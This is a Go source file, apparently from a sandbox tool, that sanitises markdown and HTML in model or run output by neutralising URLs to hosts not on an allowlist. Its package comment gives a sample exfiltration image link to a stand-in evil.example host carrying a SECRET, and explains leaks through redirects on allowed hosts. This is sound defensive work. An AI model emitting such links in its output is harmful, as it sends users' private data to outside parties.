// Package sanitize neutralises the URLs in model output that a browser
// would fetch by itself (images, stylesheets, frames, refreshes) or on a
// click (links), when their host is not on an output allowlist: rendered
// output is an exfiltration channel (![x](https://evil.example/?q=SECRET)).
// A URL on an allowed host whose query, fragment or path carries a URL or
// host name that is not allowed is neutralised too: an open redirect or a
// proxy on the allowed host would pass the data on (see carried.go).
//
// Markdown is parsed with goldmark (CommonMark plus GFM autolinks) and raw
// HTML inside it with golang.org/x/net/html. Only the bytes of an offending
// destination or tag are rewritten, so a benign document comes back
// byte-identical. The result is parsed again and checked; if anything
// offending survived the precise edits, the blocks holding it are replaced
// whole (fail closed).
package sanitize

import (
	"bytes"
	"fmt"
	"net/url"
	"sort"
	"strings"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/text"
	"github.com/yuin/goldmark/util"

	"github.com/airlock-sandbox/airlock"
	"github.com/airlock-sandbox/airlock/egress"
)

// Blocked replaces a neutralised URL: it fetches nothing and leads nowhere.
const Blocked = "about:blank#blocked"

// BlockedBlock replaces a whole block when a precise edit was not possible.
const BlockedBlock = "[content removed: it linked to a host that is not allowed]"

// Finding is one neutralised URL. It names the host, never the whole URL,
// which may carry the data being exfiltrated.
type Finding struct {
	Offset int    `json:"offset"` // byte offset in the input
	Kind   string `json:"kind"`   // link, image, autolink, html, block
	Host   string `json:"host,omitempty"`
	Reason string `json:"reason"`
}

// Sanitizer holds an output allowlist. It is immutable and safe for
// concurrent use.
type Sanitizer struct {
	allow   *egress.Policy
	relaxed *egress.Policy // allowed hosts whose URLs may carry others
	md      goldmark.Markdown
}

// Relaxed prefixes an allowlist entry ("relaxed:search.example.com") whose
// URLs may carry URLs and host names that are not allowed in their query,
// fragment and path: a host the operator trusts not to redirect or fetch
// on a URL's say, such as a search engine whose q= often names other
// sites. The host itself is allowed as by a plain entry.
const Relaxed = "relaxed:"

// New returns a sanitiser allowing hosts (exact names, or "*.name" for
// proper subdomains; IDNA and case are normalised; Relaxed before either
// relaxes it). An empty list allows no host: only relative and fragment
// URLs survive. A URL on an allowed host is still neutralised when its
// query, fragment or path carries a URL or host name that is not allowed
// (see carried.go), unless its host is relaxed.
func New(hosts ...string) (*Sanitizer, error) {
	rules := make([]airlock.NetRule, len(hosts))
	var relaxed []airlock.NetRule
	for i, h := range hosts {
		name, relax := strings.CutPrefix(strings.TrimSpace(h), Relaxed)
		if j := strings.IndexByte(name, ':'); j > 0 && isScheme(name[:j]) && !strings.Contains(name[:j], ".") {
			if strings.HasPrefix(name[j:], "://") {
				return nil, fmt.Errorf("output host %q: want a host name, not a URL", h)
			}
			return nil, fmt.Errorf("output host %q: unknown prefix %q (the only one is %q)", h, name[:j+1], Relaxed)
		}
		rules[i] = airlock.NetRule{Host: name}
		if relax {
			relaxed = append(relaxed, rules[i])
		}
	}
	p, err := egress.NewPolicy(rules)
	if err != nil {
		return nil, err
	}
	r, err := egress.NewPolicy(relaxed)
	if err != nil {
		return nil, err
	}
	return &Sanitizer{
		allow:   p,
		relaxed: r,
		md:      goldmark.New(goldmark.WithExtensions(extension.GFM)),
	}, nil
}

// edit replaces src[start:end] with repl.
type edit struct {
	start, end int
	repl       string
}

// Markdown returns src with every offending URL neutralised, and what was
// neutralised. Bytes outside offending URLs and tags are unchanged.
func (s *Sanitizer) Markdown(src []byte) ([]byte, []Finding) {
	src = src[:len(src):len(src)]
	edits, findings, blocks := s.scan(src)
	if len(blocks) == 0 && len(edits) == 0 {
		return bytes.Clone(src), findings // nothing offending was found
	}
	if len(blocks) == 0 {
		out := apply(src, edits)
		if _, again, lost := s.scan(out); len(again) == 0 && len(lost) == 0 {
			return out, findings
		}
		// The precise edits left something offending (a parser quirk
		// the edit did not anticipate): replace the blocks instead.
		blocks = s.offendingBlocks(src)
	}
	var all []edit
	for _, b := range blocks {
		repl := BlockedBlock
		if b.end > b.start && src[b.end-1] == '\n' {
			repl += "\n"
		}
		all = append(all, edit{b.start, b.end, repl})
		findings = append(findings, Finding{Offset: b.start, Kind: "block", Reason: b.reason})
	}
	out := apply(src, mergeEdits(append(all, edits...)))
	if _, again, lost := s.scan(out); len(again) > 0 || len(lost) > 0 {
		return []byte(BlockedBlock + "\n"), append(findings, Finding{Kind: "block", Reason: "the document could not be sanitised block by block"})
	}
	return out, findings
}

// MarkdownString is Markdown for strings.
func (s *Sanitizer) MarkdownString(src string) string {
	out, _ := s.Markdown([]byte(src))
	return string(out)
}

type block struct {
	start, end int
	reason     string
}

func (s *Sanitizer) parse(src []byte) ast.Node {
	return s.md.Parser().Parse(text.NewReader(src), parser.WithContext(parser.NewContext()))
}

// scan finds every offending URL in a markdown document. It returns the
// precise edits, the findings, and the blocks that must be replaced whole
// because an offending URL could not be located in the source.
func (s *Sanitizer) scan(src []byte) ([]edit, []Finding, []block) {
	var (
		edits    []edit
		findings []Finding
		blocks   []block
		cur      ast.Node
	)
	_ = ast.Walk(s.parse(src), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		if isLeafBlock(n) {
			cur = n
		}
		e, f, lost := s.inspect(n, src)
		edits, findings = append(edits, e...), append(findings, f...)
		if lost != "" {
			b := block{0, len(src), lost}
			if cur != nil {
				if st, en, ok := blockRange(cur); ok {
					b.start, b.end = st, en
				}
			}
			blocks = append(blocks, b)
		}
		return ast.WalkContinue, nil
	})
	return mergeEdits(edits), dedupe(findings), blocks
}

// offendingBlocks returns the leaf blocks of src that hold anything
// offending.
func (s *Sanitizer) offendingBlocks(src []byte) []block {
	var blocks []block
	_ = ast.Walk(s.parse(src), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering || !isLeafBlock(n) {
			return ast.WalkContinue, nil
		}
		reason := ""
		_ = ast.Walk(n, func(c ast.Node, entering bool) (ast.WalkStatus, error) {
			if entering {
				if _, f, lost := s.inspect(c, src); len(f) > 0 {
					reason = f[0].Reason
				} else if lost != "" {
					reason = lost
				}
			}
			if reason != "" {
				return ast.WalkStop, nil
			}
			return ast.WalkContinue, nil
		})
		if reason != "" {
			if st, en, ok := blockRange(n); ok {
				blocks = append(blocks, block{st, en, reason})
			}
		}
		return ast.WalkSkipChildren, nil
	})
	if len(blocks) == 0 {
		blocks = append(blocks, block{0, len(src), "offending URL outside any block"})
	}
	return blocks
}

func isLeafBlock(n ast.Node) bool {
	return n.Type() == ast.TypeBlock && n.Lines() != nil && n.Lines().Len() > 0
}

// inspect checks one node (not its children): the edits and findings for
// its offending URLs, or, when one cannot be located in the source, why.
func (s *Sanitizer) inspect(n ast.Node, src []byte) (edits []edit, findings []Finding, lost string) {
	var u, kind string
	var raw []byte
	switch n := n.(type) {
	case *ast.RawHTML:
		e, f := s.sanitizeRuns(src, runs(n.Segments, nil))
		return e, f, ""
	case *ast.HTMLBlock:
		var closure *text.Segment
		if n.HasClosure() {
			closure = &n.ClosureLine
		}
		e, f := s.sanitizeRuns(src, runs(n.Lines(), closure))
		return e, f, ""
	case *ast.Link:
		u, raw, kind = decode(n.Destination), n.Destination, "link"
	case *ast.Image:
		u, raw, kind = decode(n.Destination), n.Destination, "image"
	case *ast.AutoLink:
		u, raw, kind = string(n.URL(src)), n.Label(src), "autolink"
		if n.AutoLinkType == ast.AutoLinkEmail && !strings.HasPrefix(strings.ToLower(u), "mailto:") {
			u = "mailto:" + u
		}
	default:
		return nil, nil, ""
	}
	reason, bad := s.check(u)
	if !bad {
		return nil, nil, ""
	}
	off, ok := offsetIn(src, raw)
	if !ok {
		return nil, nil, reason
	}
	return []edit{{off, off + len(raw), Blocked}}, []Finding{{Offset: off, Kind: kind, Host: hostOf(u), Reason: reason}}, ""
}

func blockRange(n ast.Node) (int, int, bool) {
	lines := n.Lines()
	if lines == nil || lines.Len() == 0 {
		return 0, 0, false
	}
	start, end := lines.At(0).Start, lines.At(lines.Len()-1).Stop
	if h, ok := n.(*ast.HTMLBlock); ok && h.HasClosure() {
		end = h.ClosureLine.Stop
	}
	return start, end, true
}

// sanitizeRuns sanitises the raw HTML held in source ranges. A single
// range gets precise tag edits. Ranges split by a container's prefixes
// ("> ") are checked joined, as the renderer sees them, and removed
// whole if anything in them offends.
func (s *Sanitizer) sanitizeRuns(src []byte, rs [][2]int) ([]edit, []Finding) {
	if len(rs) == 1 {
		return s.sanitizeHTML(src[rs[0][0]:rs[0][1]], rs[0][0])
	}
	var joined []byte
	for _, r := range rs {
		joined = append(joined, src[r[0]:r[1]]...)
	}
	_, f := s.sanitizeHTML(joined, 0)
	if len(f) == 0 {
		return nil, nil
	}
	edits := make([]edit, len(rs))
	for i, r := range rs {
		edits[i] = edit{r[0], r[1], ""}
		if src[r[1]-1] == '\n' {
			edits[i].repl = "\n"
		}
	}
	for i := range f {
		f[i].Offset = rs[0][0]
	}
	return edits, f
}

// runs returns the contiguous source ranges of segments (the lines of a
// block inside a container such as a block quote are not contiguous).
func runs(segs *text.Segments, closure *text.Segment) [][2]int {
	var out [][2]int
	add := func(st, en int) {
		if k := len(out); k > 0 && out[k-1][1] == st {
			out[k-1][1] = en
			return
		}
		out = append(out, [2]int{st, en})
	}
	for i := 0; i < segs.Len(); i++ {
		seg := segs.At(i)
		add(seg.Start, seg.Stop)
	}
	if closure != nil {
		add(closure.Start, closure.Stop)
	}
	return out
}

// offsetIn returns where b lies inside src, if it is a sub-slice of it
// (goldmark keeps link destinations as slices of the source).
func offsetIn(src, b []byte) (int, bool) {
	if len(b) == 0 {
		return 0, false
	}
	off := cap(src) - cap(b)
	if off < 0 || off+len(b) > len(src) || &src[off] != &b[0] {
		return 0, false
	}
	return off, true
}

// decode turns a raw destination into the URL a renderer uses: backslash
// escapes and character references resolved.
func decode(raw []byte) string {
	b := util.UnescapePunctuations(raw)
	b = util.ResolveNumericReferences(b)
	b = util.ResolveEntityNames(b)
	return string(b)
}

// check reports whether u must be neutralised, and why.
func (s *Sanitizer) check(raw string) (reason string, bad bool) {
	return s.checkURL(raw, true)
}

// checkURL is check; carried says whether what the URL's query, fragment
// and path carry is checked too (it is not for a URL that is itself
// carried: the outer string is scanned whole).
func (s *Sanitizer) checkURL(raw string, carried bool) (reason string, bad bool) {
	u := cleanURL(raw)
	if u == "" || u == Blocked {
		return "", false
	}
	scheme := ""
	if i := strings.IndexByte(u, ':'); i > 0 && isScheme(u[:i]) {
		scheme = strings.ToLower(u[:i])
	}
	switch scheme {
	case "":
		if !strings.HasPrefix(u, "//") {
			// Relative: it stays on the page's own origin, which may
			// redirect as readily as an allowed host.
			if carried {
				return s.carriedBy(u)
			}
			return "", false
		}
		u = "https:" + u
	case "http", "https":
	case "mailto":
		addr, query := u[len("mailto:"):], ""
		if q := strings.IndexAny(addr, "?#"); q >= 0 {
			addr, query = addr[:q], addr[q:]
		}
		at := strings.LastIndexByte(addr, '@')
		if at < 0 || strings.Contains(addr, ",") {
			return "mailto link without a single address", true
		}
		host, err := url.PathUnescape(addr[at+1:])
		if err != nil || !s.allow.AllowsName(host) {
			return "mail domain is not allowed", true
		}
		if q, ok := strings.CutPrefix(query, "?"); ok {
			if i := strings.IndexByte(q, '#'); i >= 0 {
				q = q[:i]
			}
			return s.mailtoHeaders(q)
		}
		return "", false
	default:
		return "scheme " + scheme + ": is not allowed", true
	}
	p, err := url.Parse(u)
	if err != nil {
		return "unparseable URL", true
	}
	if p.User != nil {
		return "URL carries userinfo (host confusion)", true
	}
	host := p.Hostname()
	if _, err := egress.NormalizeHost(host); err != nil {
		return err.Error(), true
	}
	if !s.allow.AllowsName(host) {
		return "host is not on the output allowlist", true
	}
	if carried && !s.relaxed.AllowsName(host) {
		return s.carriedBy(u)
	}
	return "", false
}

// cleanURL does what a browser's URL parser does before parsing: strip
// leading and trailing C0 controls and spaces, remove tabs and newlines
// anywhere, and read backslashes as slashes.
func cleanURL(raw string) string {
	return normalize(strings.TrimFunc(raw, func(r rune) bool { return r <= ' ' }))
}

func isScheme(s string) bool {
	for i, c := range s {
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z':
		case i > 0 && (c >= '0' && c <= '9' || c == '+' || c == '-' || c == '.'):
		default:
			return false
		}
	}
	return s != ""
}

func hostOf(raw string) string {
	u := cleanURL(raw)
	if strings.HasPrefix(u, "//") {
		u = "https:" + u
	}
	if p, err := url.Parse(u); err == nil {
		if h, err := egress.NormalizeHost(p.Hostname()); err == nil {
			return h
		}
		return p.Hostname()
	}
	return ""
}

// mergeEdits sorts edits and drops those inside an earlier one.
func mergeEdits(edits []edit) []edit {
	sort.SliceStable(edits, func(i, j int) bool {
		if edits[i].start != edits[j].start {
			return edits[i].start < edits[j].start
		}
		return edits[i].end > edits[j].end
	})
	out := edits[:0]
	end := -1
	for _, e := range edits {
		if e.start < end {
			continue // overlaps (or repeats) an earlier edit
		}
		out = append(out, e)
		end = e.end
	}
	return out
}

func dedupe(f []Finding) []Finding {
	seen := map[[2]int]bool{}
	out := f[:0]
	for _, x := range f {
		k := [2]int{x.Offset, len(x.Kind)}
		if !seen[k] {
			seen[k] = true
			out = append(out, x)
		}
	}
	return out
}

func apply(src []byte, edits []edit) []byte {
	if len(edits) == 0 {
		return bytes.Clone(src)
	}
	var b bytes.Buffer
	b.Grow(len(src))
	last := 0
	for _, e := range edits {
		b.Write(src[last:e.start])
		b.WriteString(e.repl)
		last = e.end
	}
	b.Write(src[last:])
	return b.Bytes()
}

// Result sanitises a run's result in place, for the "sanitise output"
// option on results: stdout, stderr and a string value are treated as
// markdown. It returns what was neutralised.
func (s *Sanitizer) Result(r *airlock.Result) []Finding {
	var all []Finding
	for _, p := range []*string{&r.Stdout, &r.Stderr} {
		out, f := s.Markdown([]byte(*p))
		*p, all = string(out), append(all, f...)
	}
	if v, ok := r.Value.(string); ok {
		out, f := s.Markdown([]byte(v))
		r.Value, all = string(out), append(all, f...)
	}
	return all
}
